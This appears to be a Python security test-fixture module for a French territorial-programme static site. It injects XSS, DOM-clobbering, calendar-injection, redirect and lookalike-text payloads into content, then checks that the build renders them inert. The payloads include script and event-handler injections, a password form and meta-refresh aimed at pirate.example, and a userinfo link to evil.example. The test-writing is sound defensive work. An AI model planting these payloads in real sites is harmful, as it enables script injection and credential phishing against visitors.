"""Valid but hostile content: markup, scripts, event handlers and dangerous URLs in every kind
of field, in YAML and in Markdown. A build must render all of it inert.

Every payload that would run sets ``window.__ti_pirate``: the browser tests read it."""

from __future__ import annotations

import json
from pathlib import Path

from PIL import Image

GC = "territoires/grand-chatellerault"
ACTION = f"{GC}/actions/diagnostic-attractivite.md"
TITLE = "titre: Réaliser un diagnostic d'attractivité"

RUN = "window.__ti_pirate=1"
SCRIPT = f"<script>{RUN}</script>"

# Payloads placed in YAML text fields (escaped by the templates).
YAML_PAYLOADS = {
    "balise-script": f"Piégé {SCRIPT} fin",
    "gestionnaire-evenement": f'<img src=x onerror="{RUN}">',
    "sortie-d-attribut": f'"\'><svg onload="{RUN}">',
    "lien-markdown-javascript": f"[cliquez ici](javascript:{RUN})",
    "gabarit-jinja": "{{ 7 * 7 }} {% raw %} ${7*7}",
    "tableau-markdown": "| colonne | cassée |\n|---|---|",
    "formule-tableur": '=HYPERLINK("https://pirate.example/","cliquez")',
}

# Replaces the theme's configuration: its search worker would be a script of the attacker's.
CONFIG_HIJACK = (
    '{"base": ".", "features": [], "translations": {}, '
    f'"search": "data:text/javascript,{RUN}"' + "}"
)

# A title that tries to add an event to the calendar file.
ICS_INJECTION = "Réunion\r\nBEGIN:VEVENT\r\nSUMMARY:injecté"

# Payloads placed in Markdown bodies (sanitised after rendering).
MARKDOWN_PAYLOADS = {
    "script": SCRIPT,
    "script-svg": f"<svg><script>{RUN}</script></svg>",
    # an image without an address: it loads nothing, so any text may hold it
    "img-onerror": f'<img alt="image piégée" onerror="{RUN}">',
    "a-javascript": f'<a href="javascript:{RUN}">lien html</a>',
    "a-javascript-masque": f'<a href="jav&#x09;ascript:{RUN}">lien masqué</a>',
    "lien-markdown-javascript": f"[lien markdown](javascript:{RUN})",
    "lien-data": f"[data](data:text/html,<script>{RUN}</script>)",
    # frames and objects of the site itself (those of another site are refused by check)
    "iframe": '<iframe src="cadre.html"></iframe>',
    "objet": '<object data="x.swf"></object>',
    "formulaire": '<form action="https://pirate.example/"><input name="mdp"></form>',
    "style": "<style>body { display: none }</style>",
    "attribut-style": '<p style="position:fixed;inset:0;background:red">recouvre</p>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://pirate.example/">',
    "base": '<base href="https://pirate.example/">',
    "onclick": f'<a href="#" onclick="{RUN}">clic</a>',
    "details-ontoggle": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "gabarit-jinja": "{{ config.site_name }} {% for x in range(3) %}boucle{% endfor %}",
    # the theme's machinery: its configuration element, its search, its global functions
    "id-config": f'<div id="__config">{CONFIG_HIJACK}</div>',
    "id-search": '<div id="__search">recherche remplacée</div>',
    "attr-list-id": "Texte marqué\n{: #__drawer }",
    "titre-config": "#### __config",
    "clobber-nom": '<img name="getElementById" alt="clobber">',
    "mermaid": '<pre class="mermaid md-typeset" data-md-component="search">graph TD; A--&gt;B</pre>',
    # the search index: a page that files itself under another territory, renames itself in
    # results, or hides from the search
    "pagefind": '<span data-pagefind-filter="territoire">Territoire pirate</span>'
    '<p data-pagefind-meta="title">Titre pirate</p><div data-pagefind-ignore="all">caché</div>',
}


# Payloads only a letter can hold: an image must be a file published next to its text (an
# image that is not, such as « data: », is refused by check: see test_security).
LETTER_IMAGE = "images/piege.png"
LETTER_PAYLOADS = {
    "img-onload": f'<img src="{LETTER_IMAGE}" alt="image piégée" onload="{RUN}">',
}


def _markdown_body(payloads: dict[str, str] = MARKDOWN_PAYLOADS) -> str:
    blocks = [f"Paragraphe {name} :\n\n{payload}\n" for name, payload in payloads.items()]
    return "Mot-repère : chaudronnerie.\n\n" + "\n".join(blocks)


def _yaml_string(value: str) -> str:
    return '"' + value.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") + '"'


def make_hostile(root: Path) -> None:
    """Put every payload in the Grand-Châtellerault territory of the project at ``root``."""
    p = YAML_PAYLOADS
    action = root / ACTION
    text = action.read_text(encoding="utf-8")
    text = text.replace(TITLE, f"titre: {_yaml_string(p['balise-script'])}")
    text = text.replace(
        "nature_soutien:",
        "porteur:\n"
        f"  nom: {_yaml_string(p['formule-tableur'])}\n"
        f"  categorie: {_yaml_string(p['sortie-d-attribut'])}\n"
        "budget:\n"
        f"  - financeur: {_yaml_string(p['gestionnaire-evenement'])}\n"
        "    montant: 1000\n"
        "    statut: acquis\n"
        f"    commentaire: {_yaml_string(p['lien-markdown-javascript'])}\n"
        "indicateurs:\n"
        f"  - nom: {_yaml_string(p['tableau-markdown'])}\n"
        "    type: résultat\n"
        f"    unite: {_yaml_string(p['gabarit-jinja'])}\n"
        "    valeur: 3\n"
        "nature_soutien:",
    )
    head, _, _ = text.rpartition("---\n")
    action.write_text(head + "---\n" + _markdown_body(), encoding="utf-8")

    territory = root / GC / "territoire.yml"
    text = territory.read_text(encoding="utf-8")
    text = text.replace(
        "identification: Phase pilote",
        f"identification: {_yaml_string(p['sortie-d-attribut'] + ' Phase pilote')}\n"
        "# identification d'origine : Phase pilote",
    )
    text += (
        "emploi_industriel:\n"
        "  part: 99.99\n"
        f"  source: {_yaml_string(p['balise-script'])}\n"
        '  date: "2022"\n'
    )
    territory.write_text(text, encoding="utf-8")

    # fields read by the views: the chef de projet's funding (a total), an objective's title
    # (the priorities page lists the objectives under each national priority)
    governance = root / GC / "gouvernance.yml"
    governance.write_text(
        governance.read_text(encoding="utf-8") + "chef_de_projet:\n"
        f"  structure: {_yaml_string(p['sortie-d-attribut'])}\n"
        "  financement:\n"
        f"    - financeur: {_yaml_string(p['gestionnaire-evenement'])}\n"
        "      montant: 999999999999.99\n"
        f"      periode: {_yaml_string(p['lien-markdown-javascript'])}\n"
        "    - financeur: Région\n"
        "      montant: 0.01\n",
        encoding="utf-8",
    )
    priorities = root / GC / "priorites.yml"
    priorities.write_text(
        priorities.read_text(encoding="utf-8").replace(
            "titre: Recruter", f"titre: {_yaml_string(p['sortie-d-attribut'] + ' Recruter')}", 1
        ),
        encoding="utf-8",
    )

    letters = root / GC / "lettres"
    letters.mkdir()
    (letters / "1.md").write_text(
        "---\n"
        f"titre: {_yaml_string('</title>' + SCRIPT + ' Lettre piégée')}\n"
        "date: 2024-03-01\n"
        f"resume: {_yaml_string(p['gestionnaire-evenement'] + ' résumé piégé')}\n"
        "appels_a_projets:\n"
        f"  - titre: {_yaml_string(p['sortie-d-attribut'])}\n"
        "    lien: https://pirate.example/?a=1&b=2\n"
        "evenements:\n"
        f"  - titre: {_yaml_string(ICS_INJECTION)}\n"
        "    date: 2099-01-15T10:00\n"
        f"    lieu: {_yaml_string(p['balise-script'])}\n"
        "---\n" + _markdown_body({**MARKDOWN_PAYLOADS, **LETTER_PAYLOADS}),
        encoding="utf-8",
    )
    (letters / LETTER_IMAGE).parent.mkdir()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(letters / LETTER_IMAGE)


_DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
_URL_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "srcdoc")


def live_injections(html: str) -> list[str]:
    """What in a page could still run or mislead: empty when every payload is inert."""
    from bs4 import BeautifulSoup

    found = []
    soup = BeautifulSoup(html, "html.parser")
    for element in soup.find_all(True):
        name = element.name
        if name == "script" and "__ti_pirate" in element.get_text():
            found.append("<script> injecté")
        if name in ("iframe", "object", "embed", "base", "frame"):
            found.append(f"<{name}>")
        if name == "meta" and str(element.get("http-equiv", "")).lower() == "refresh":
            found.append("<meta http-equiv=refresh>")
        if name == "style" and "display: none" in element.get_text():
            found.append("<style> injecté")
        for attribute, value in element.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            if attribute.lower().startswith("on"):
                found.append(f"<{name} {attribute}>")
            squashed = "".join(c for c in text if c > " ").lower()
            if attribute in _URL_ATTRIBUTES and squashed.startswith(_DANGEROUS_SCHEMES):
                found.append(f"<{name} {attribute}={text[:30]}>")
            if attribute == "action" and "pirate.example" in text:
                found.append("<form action> vers un autre site")
            if attribute == "style" and "position:fixed" in squashed:
                found.append("style couvrant la page")
    return found


# Text that misleads the eye rather than the browser: a title shown in another order, a
# territory named like another one with a Cyrillic « а », a sign-up link that names one site
# and leads to another (refused by the checks; see test_security.py for the negative control).
BIDI_TITLE = "Réaliser\u202e un diagnostic"
LOOKALIKE_NAME = "Grand-Ch\u0430tellerault"
USERINFO_LINK = "https://brevo.com@evil.example/x"


def make_tricky(root: Path) -> None:
    """Put the misleading values above in the example project at ``root``."""
    action = root / ACTION
    text = action.read_text(encoding="utf-8")
    action.write_text(text.replace(TITLE, f"titre: {_yaml_string(BIDI_TITLE)}"), encoding="utf-8")
    territory = root / "territoires/hainaut-douaisis-cambresis/territoire.yml"
    text = territory.read_text(encoding="utf-8")
    text = text.replace("nom: Hainaut-Douaisis-Cambrésis", f"nom: {LOOKALIKE_NAME}")
    text = text.replace(
        "  inscription: https://lettres.example.org/subscription/form",
        f"  inscription: {USERINFO_LINK}",
    )
    territory.write_text(text, encoding="utf-8")


# --- federation: a harvested bundle (tisite.publish.bundle) with a payload in every free-text field ---

# Its free-text fields (the others are addresses, dates, identifiers, vocabularies or numbers,
# refused by the schema when they are anything else).
BUNDLE_TEXT = {
    "territoire": ("nom", "resume"),
    "epci": ("nom", "sigle"),
    "departements": ("nom",),
    "emploi_industriel": ("source",),
    "objectifs": ("titre",),
    "actions": ("titre", "resume", "porteur"),
    "budget": ("financeur",),
    "lettres": ("titre", "resume"),
    "agenda": ("titre", "lieu", "operateur"),
    "generateur": ("nom", "version"),
}
BUNDLE_LISTS = ("regions", "filieres", "entreprises", "sous_objectifs")
# One-line payloads only: a bundle's text has no line break (the schema refuses it).
BUNDLE_PAYLOADS = [v for v in YAML_PAYLOADS.values() if "\n" not in v]


def make_hostile_bundle(data: dict[str, object]) -> int:
    """Put a payload (in turn) before every free-text value of ``data``; returns how many."""
    count = 0

    def payload() -> str:
        nonlocal count
        count += 1
        return BUNDLE_PAYLOADS[count % len(BUNDLE_PAYLOADS)]

    def walk(value: object, key: str) -> None:
        if isinstance(value, dict):
            for name in BUNDLE_TEXT.get(key, ()):
                if isinstance(value.get(name), str):
                    value[name] = f"{payload()} {value[name]}"
            for name, inner in value.items():
                if name in BUNDLE_LISTS and isinstance(inner, list):
                    value[name] = [f"{payload()} {x}" for x in inner]
                else:
                    walk(inner, name)
        elif isinstance(value, list):
            for item in value:
                walk(item, key)

    walk(data, "")
    walk(data["territoire"], "territoire")  # type: ignore[index]
    return count


def assert_data_matches_its_schemas(site: Path) -> None:
    """Every data file the catalogue lists passes its published schema, whatever the value:
    each CSV its Table Schema (frictionless), each JSON file its JSON Schema (jsonschema)."""
    from frictionless import Package
    from jsonschema import Draft202012Validator

    catalogue = json.loads((site / "datapackage.json").read_text("utf-8"))
    report = Package(str(site / "datapackage.json")).validate()
    assert report.valid, report.flatten(["resourceName", "rowNumber", "fieldName", "note"])
    for resource in catalogue["resources"]:
        if "jsonSchema" in resource:
            schema = json.loads((site / resource["jsonSchema"]).read_text("utf-8"))
            document = json.loads((site / resource["path"]).read_text("utf-8"))
            errors = [e.message for e in Draft202012Validator(schema).iter_errors(document)]
            assert not errors, (resource["path"], errors[:3])
